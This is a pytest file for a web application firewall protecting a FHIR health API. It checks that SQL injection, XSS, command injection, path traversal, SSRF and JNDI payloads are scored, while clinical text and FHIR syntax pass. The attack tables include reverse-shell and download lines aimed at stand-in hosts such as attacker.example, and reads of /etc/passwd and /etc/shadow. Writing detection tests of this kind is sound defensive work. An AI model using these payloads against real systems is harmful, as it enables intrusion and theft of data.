"""Rule tables: attacks in many spellings score, FHIR syntax and prose do not."""

from __future__ import annotations

import pytest

from kaitiaki.errors import Blocked
from kaitiaki.request import CanonicalRequest
from kaitiaki.settings import WafExclusion, WafSettings
from kaitiaki.waf import Findings, RuleEngine, TrafficFilter
from kaitiaki.waf.decode import base64_text, shell_unquoted, variants
from kaitiaki.waf.rules import PROTOCOL_RULE_IDS, RULES

ENGINE = RuleEngine(1)
X = '<div xmlns="http://www.w3.org/1999/xhtml">'
CATEGORY = {rule.id: rule.category for rule in RULES}


def score(value: str, target: str = "query") -> Findings:
    findings = Findings()
    ENGINE.scan(target, value, findings)
    return findings


@pytest.mark.parametrize(
    ("value", "category"),
    [
        ("1234 OR 1=1", "sqli"),
        ("-1839' or '1'='1", "sqli"),
        ("x%27%20OR%20%271%27%3D%271", "sqli"),
        ("x%2527%2520OR%2520%25271%2527%253D%25271", "sqli"),
        ("1 UNION/**/ALL SELECT password FROM users", "sqli"),
        ("1 uNiOn SeLeCt 1,2,3", "sqli"),
        ("admin'--", "sqli"),
        ("1'; DROP TABLE patients", "sqli"),
        ("1 AND sleep(5)", "sqli"),
        ("1' and extractvalue(1,concat(0x7e,version()))", "sqli"),
        ("' or 1=1 into outfile '/tmp/x'", "sqli"),
        ("<script>alert(1)</script>", "xss"),
        ("%3Cscript%3Ealert(1)%3C%2Fscript%3E", "xss"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;", "xss"),
        ("\\u003cscript\\u003ealert(1)", "xss"),
        ("%u003cscript%u003e", "xss"),
        ('<img src=x onerror="alert(1)">', "xss"),
        ("<svg/onload=alert(1)>", "xss"),
        ("javascript:alert(document.cookie)", "xss"),
        ("ja&Tab;vascript:alert(1)", "xss"),
        ("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "xss"),
        ("; cat /etc/passwd", "rce"),
        ("| id", "rce"),
        ("id -u", "rce"),
        ("whoami", "rce"),
        ("sudo id", "rce"),
        ("time ls", "rce"),
        ("ls -la /", "rce"),
        ("ruby -e 'exec(\"sh\")'", "rce"),
        ("ping 10.0.0.1", "rce"),
        ("curl evil.example/x", "rce"),
        ("nc 192.0.2.9 4444", "rce"),
        ("bash -i", "rce"),
        ("| nc attacker.example 4444", "rce"),
        ("; curl -s http://attacker.example/x", "rce"),
        ("$(whoami)", "rce"),
        ("`uname -a`", "rce"),
        ("x && c'u'rl http://attacker.example/x", "rce"),
        ("() { :; }; /bin/bash -c id", "rce"),
        ("cmd.exe /c dir", "rce"),
        ("../../../../etc/passwd", "lfi"),
        ("..%2F..%2F..%2Fetc%2Fpasswd", "lfi"),
        ("..%252f..%252fetc%252fshadow", "lfi"),
        ("..\\..\\windows\\win.ini", "lfi"),
        ("/proc/self/environ", "lfi"),
        ("file:///etc/passwd", "rfi"),
        ("gopher://127.0.0.1:6379/_FLUSHALL", "rfi"),
        ("http://169.254.169.254/latest/meta-data/", "rfi"),
        ("http://metadata.google.internal/computeMetadata/v1/", "rfi"),
        ("http://localhost:8080/admin", "rfi"),
        ("http://10.0.0.5/", "rfi"),
        ("https://db.internal/", "rfi"),
        ("${jndi:ldap://attacker.example/a}", "java"),
        ("${${lower:j}ndi:ldap://x}", "java"),
        ("java.lang.Runtime.getRuntime().exec('id')", "java"),
        ("{{7*7}}", "generic"),
        ("__proto__[admin]=1", "generic"),
        ("GET http://attacker.example HTTP/1.1", "protocol"),
        ("x%0d%0aSet-Cookie:%20a=b", "protocol"),
    ],
)
def test_rules_score_attack_spellings(value: str, category: str) -> None:
    findings = score(value)
    assert findings.score >= 5, value
    assert category in {CATEGORY[rule] for rule in findings.rules}, findings.ids()


@pytest.mark.parametrize(
    "value",
    [
        # FHIR search syntax
        "https://standards.digital.health.nz/ns/nhi-id|ZAC5361",
        "http://loinc.org|8867-4,http://loinc.org|8480-6",
        "ge2020-01-01",
        "le2021-12-31T23:59:59+13:00",
        "eq1985-06-02",
        "Patient:general-practitioner",
        "Observation:patient",
        "_has:Observation:patient:code=1234-5",
        "subject.name=Smith",
        "patient.identifier=https://standards.digital.health.nz/ns/nhi-id|ZAC5361",
        '"Te Whatu Ora"',
        "-date,_lastUpdated",
        "Whangārei",
        "$everything",
        "http://hl7.org/fhir/StructureDefinition/patient-birthPlace",
        "urn:uuid:8b2c0f4e-1f8a-4f8c-9a77-3c4a0d9b2b11",
        "text/plain",
        "ge5.4|http://unitsofmeasure.org|mmol/L",
        'name eq "peter" and birthdate gt 2000-01-01',
        'given eq "Aroha" or family co "Ngata"',
        '"heart attack" or "cardiac arrest"',
        "Observation.subject.where(resolve() is Patient)",
        "application/fhir+json;q=0.9, */*;q=0.1",
        'W/"3"',
        # clinical free text
        "O'Brien",
        "Patient's mother says she can't sleep; advised to drop caffeine.",
        "Select the lowest effective dose -- review in 2 weeks.",
        "Union of the fracture confirmed on x-ray; select follow-up in clinic.",
        "BP < 120/80 and HR > 60 -- stable",
        "Drop in Hb from 130 to 98 g/L; delete the old care plan and update the GP.",
        "Type 2 diabetes | more tests needed",
        "Cat scan booked; dog bite on left hand",
        "Pain onset = 3 days ago, worse at night",
        "Patient said 'no' -- then left the clinic",
        "Mum's and dad's details: see 'Contacts' or 'Next of kin'",
        "Insulin 10 units at 8 am & 6 pm; check BGL 4 times daily",
        "Referral to the Auckland City Hospital (ACH) / Starship",
        "Whānau hui held; kaumātua present",
        "e.g. 1 in 5 patients; or 20%",
        # names and FHIR tokens that are also command names
        "Ruby",
        "ruby",
        "Ruby Jones",
        "Perl",
        "Ping",
        "Ping Li",
        "Sh",
        "Who",
        "Bash",
        "Curl",
        "Robert Curl",
        "id",
        "id,meta",
        "php",
        "python",
    ],
)
def test_rules_pass_fhir_syntax_and_clinical_prose(value: str) -> None:
    assert score(value).score == 0, score(value).ids()
    assert score(value, "body").score == 0, score(value, "body").ids()


@pytest.mark.parametrize(
    ("narrative", "blocked"),
    [
        (
            '<div xmlns="http://www.w3.org/1999/xhtml"><p>Ms <b>Smith</b></p></div>',
            False,
        ),
        (
            X + "<table><tr><td>BP</td>"
            '<td>120/80</td></tr></table><img src="#a1" alt="x"/></div>',
            False,
        ),
        (
            X + '<a href="https://example.org">'
            'link</a><span style="color: red">!</span></div>',
            False,
        ),
        ('<div xmlns="http://www.w3.org/1999/xhtml"><script>x()</script></div>', True),
        (
            '<div xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=y()/></div>',
            True,
        ),
        (
            X + '<a href="javascript:x()">a</a></div>',
            True,
        ),
        ('<div xmlns="http://www.w3.org/1999/xhtml"><iframe src="/"/></div>', True),
    ],
)
def test_narrative_rules_follow_fhir_narrative_constraints(
    narrative: str, blocked: bool
) -> None:
    waf = TrafficFilter(WafSettings())
    findings = Findings()
    resource = {
        "resourceType": "Patient",
        "text": {"status": "generated", "div": narrative},
    }
    waf.inspect_resource(resource, "/fhir/{type}", "/fhir/Patient", findings)
    assert (findings.score >= 5) is blocked, findings.ids()


def test_decodings_are_bounded_and_ordered() -> None:
    assert variants("abc") == ("abc",)
    assert variants("%25252e")[-1] == "."
    assert shell_unquoted("c'u'r\\l") == "curl"
    assert shell_unquoted("plain") is None
    assert base64_text("not base64!") is None
    assert base64_text("aGVsbG8gd29ybGQgaGVsbG8=") == "hello world hello"


def test_paranoia_level_two_adds_broader_rules() -> None:
    value = "select name from the list where it fits"
    strict = Findings()
    RuleEngine(2).scan("body", value, strict)
    assert score(value, "body").score == 0
    assert strict.score > 0


@pytest.mark.parametrize("value", ["id", "Ruby", "who", "ping"])
def test_paranoia_level_two_reads_a_bare_command_word_as_crs_does(value: str) -> None:
    strict = Findings()
    RuleEngine(2).scan("query", value, strict)
    assert score(value).score == 0
    assert "rce-bare-command" in strict.rules


def _request(query: tuple[tuple[str, str], ...]) -> CanonicalRequest:
    return CanonicalRequest(
        "GET", "/fhir/Patient", query, {"user-agent": ["curl/8"]}, "192.0.2.1", "c"
    )


def test_exclusion_switches_a_rule_off_for_one_route() -> None:
    settings = WafSettings(
        exclusions=(
            WafExclusion(
                route="/fhir/Patient", rules=("lfi-os-file",), targets=("query",)
            ),
        )
    )
    request = _request((("note", "/etc/passwd"),))
    excluded = Findings()
    TrafficFilter(settings).inspect_head(request, "/fhir/{type}", excluded)
    normal = Findings()
    TrafficFilter(WafSettings()).inspect_head(request, "/fhir/{type}", normal)
    assert "lfi-os-file" not in excluded.rules
    assert "lfi-os-file" in normal.rules


def test_decide_blocks_at_threshold_unless_detection_only() -> None:
    findings = Findings({"sqli-union-select": 5})
    with pytest.raises(Blocked) as raised:
        TrafficFilter(WafSettings()).decide(findings)
    assert raised.value.issue_code == "security"
    assert "sqli" not in raised.value.message
    TrafficFilter(WafSettings(detection_only=True)).decide(findings)
    TrafficFilter(WafSettings(inbound_threshold=10)).decide(findings)


def test_scanner_user_agent_scores_only_in_user_agent() -> None:
    waf = TrafficFilter(WafSettings())
    request = CanonicalRequest(
        "GET", "/fhir/Patient", (), {"user-agent": ["sqlmap/1.7.2#stable"]}, "a", "c"
    )
    findings = Findings()
    waf.inspect_head(request, "/fhir/{type}", findings)
    assert "scanner-user-agent" in findings.rules
    assert score("sqlmap").score == 0


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "value",
    [
        "a" * 100_000 + "!",
        "<" * 100_000,
        "'" + " or" * 33_000,
        "(" * 50_000 + ")" * 50_000,
        "${" * 50_000,
        "%25" * 33_000,
        "&#" * 50_000,
        "/*" * 50_000,
        "x" * 50_000 + "=" + "y" * 50_000,
        "\\u00" * 25_000,
        "A" * 100_000,
    ],
)
def test_rules_finish_on_classic_redos_inputs(value: str) -> None:
    """RE2 is linear: 100 KB of backtracking bait finishes (guarded, not timed)."""
    for target in ("query", "body", "narrative", "header"):
        findings = Findings()
        ENGINE.scan(target, value, findings)
        assert findings.score >= 0


@pytest.mark.parametrize(
    ("method", "headers", "rule"),
    [
        ("GET", {"content-length": ["5"]}, "protocol-body-without-meaning"),
        ("DELETE", {"transfer-encoding": ["chunked"]}, "protocol-body-without-meaning"),
        ("GET", {"proxy": ["http://attacker.example"]}, "protocol-restricted-header"),
        ("GET", {"lock-token": ["x"]}, "protocol-restricted-header"),
        ("POST", {"content-type": ["a", "b"]}, "protocol-repeated-header"),
        ("GET", {"host": [" "]}, "protocol-empty-host"),
    ],
)
def test_protocol_anomalies_score(
    method: str, headers: dict[str, list[str]], rule: str
) -> None:
    request = CanonicalRequest(method, "/fhir/Patient", (), headers, "a", "c")
    findings = Findings()
    TrafficFilter(WafSettings()).inspect_head(request, "/fhir/{type}", findings)
    assert rule in findings.rules
    assert rule in PROTOCOL_RULE_IDS
    assert findings.score >= 5


def test_protocol_anomalies_pass_ordinary_requests() -> None:
    headers = {"host": ["gw.example"], "content-length": ["0"], "accept": ["*/*"]}
    request = CanonicalRequest("GET", "/fhir/Patient", (), headers, "a", "c")
    findings = Findings()
    TrafficFilter(WafSettings(paranoia_level=2)).inspect_head(request, "", findings)
    assert findings.ids() == ("protocol-missing-user-agent",)
    assert findings.score < 5


def test_exclusion_of_an_unknown_rule_is_refused_at_start() -> None:
    with pytest.raises(ValueError, match="unknown rule ids"):
        WafExclusion(route="/fhir/Patient", rules=("sqli-everything",))
    assert WafExclusion(route="/fhir", rules=("protocol-empty-host",)).rules


def test_remembered_matches_still_honour_each_call_s_exclusions_and_header() -> None:
    engine = RuleEngine(1)
    attack = "1' OR '1'='1' --"
    first = Findings()
    engine.scan("query", attack, first)
    assert first.score > 0
    excluded = Findings()
    engine.scan("query", attack, excluded, excluded=frozenset(first.rules))
    assert excluded.rules == {}
    again = Findings()
    engine.scan("query", attack, again)
    assert again.rules == first.rules
    # A header-only rule fires for its header, not for another, from memory too.
    headers = (("user-agent", True), ("x-note", False), ("user-agent", True))
    for header, expected in headers:
        found = Findings()
        engine.scan("header", "sqlmap/1.7.2#stable", found, header=header)
        assert ("scanner-user-agent" in found.rules) is expected


def test_long_values_are_matched_every_time() -> None:
    engine = RuleEngine(1, memo_size=4)
    engine.scan("query", "x" * 5000 + "<script>alert(1)</script>", Findings())
    assert len(engine._memo) == 0
    engine.scan("query", "short", Findings())
    assert len(engine._memo) == 1
